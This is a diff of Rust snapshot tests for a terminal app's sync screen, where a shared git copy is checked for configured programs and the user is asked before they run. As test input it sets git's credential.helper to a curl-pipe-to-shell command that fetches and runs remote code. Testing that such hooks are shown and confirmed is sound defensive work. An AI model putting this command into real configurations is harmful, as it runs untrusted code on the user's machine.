@@ -18,9 +18,9 @@ fn before_a_sync_the_screen_shows_the_programs_and_asks_and_a_no_leaves_everythi
     name(&two.one, "credential.helper", "!curl -s https://example.org/x | sh");
     two.one.keys("4 Space F5");
     insta::assert_snapshot!(two.one.frame(), @r"
-     1 Home  2 Groups  3 Meetings [4 Actions] 5 People  6 History  7 Sync
+     Sedex a… 1 Home 2 Groups 3 Meet [4 Actions] 5 People 6 Hist 7 Sync   ●SX + ◆AM
      Example. No document of Sedex or amfori; all people and figures are made up.
-    ┌ Actions ────────────────────────────────────── open · 11 of 14 · by due date ┐
+    ┌ Actions ──────────────────────────────── not closed · 11 of 14 · by due date ┐
     │     No       Title                                   Who                  Due│
     │▌[x] AQ 9QXT  Name two report reviewers from each si… ◆AM Rowan           done│
     │ [x╔══════════════════════════════════════════════════════════════════════╗one│
@@ -37,7 +37,7 @@ fn before_a_sync_the_screen_shows_the_programs_and_asks_and_a_no_leaves_everythi
     │   ║                                                                      ║   │
     │   ║ [ Esc  Leave it ]    [ y  Allow and go on ]                          ║   │
     │   ╚══════════════════════════════════════════════════════════════════════╝   │
-    │ AQ-A26-9QXT · done · helped by cedar                                         │
+    │ AQ-A26-9QXT · done · helped by ●SX Cedar                                     │
     │ Enter opens everything                                                       │
     └──────────────────────────────────────────────────────────────────────────────┘
                                                       Saved · Needs you · 1 to send
@@ -48,7 +48,7 @@ fn before_a_sync_the_screen_shows_the_programs_and_asks_and_a_no_leaves_everythi
     two.one.keys("7");
     let shared = two.shared();
     insta::assert_snapshot!(frame(&mut two.one, &shared), @r"
-     1 Home  2 Groups  3 Meetings  4 Actions  5 People  6 History [7 Sync]
+     Sedex a… 1 Home 2 Groups 3 Meet 4 Actions 5 People 6 Hist [7 Sync]   ●SX + ◆AM
      Example. No document of Sedex or amfori; all people and figures are made up.
     ┌ Sync with the shared copy ───────────────────────────────────────────────────┐
     │ Shared copy    /srv/shared.git                                               │
@@ -71,7 +71,7 @@ fn before_a_sync_the_screen_shows_the_programs_and_asks_and_a_no_leaves_everythi
     │   credential.helper = !curl -s https://example.org/x | sh                    │
     └──────────────────────────────────────────────────────────────────────────────┘
                                                       Saved · Needs you · 1 to send
-     F5 Send and receive  Enter Open  c Shared copy             Ctrl+P Find  ? Help
+     F5 Send and receive  Enter Open  c Shared copy     . More  Ctrl+P Find  ? Help
     ");
     two.one.keys("F5");
     let asked = two.one.frame();
@@ -96,7 +96,7 @@ fn nobody_allows_what_they_have_not_seen() {
     }
     two.one.keys("F5");
     insta::assert_snapshot!(two.one.frame(), @r"
-    [1 Home] 2 Groups  3 Meetings  4 Actions  5 People  6 History  7 Sync
+     Sedex a… [1 Home] 2 Groups 3 Meet 4 Actions 5 People 6 Hist 7 Sync   ●SX + ◆AM
      Example. No document of Sedex or amfori; all people and figures are made up.
     ╔ Next meetings ═══════════════════════════════════════════════════════════════╗
     ║▌Fri 20   10:00 CO     Fourth meeting                                72/90 min║
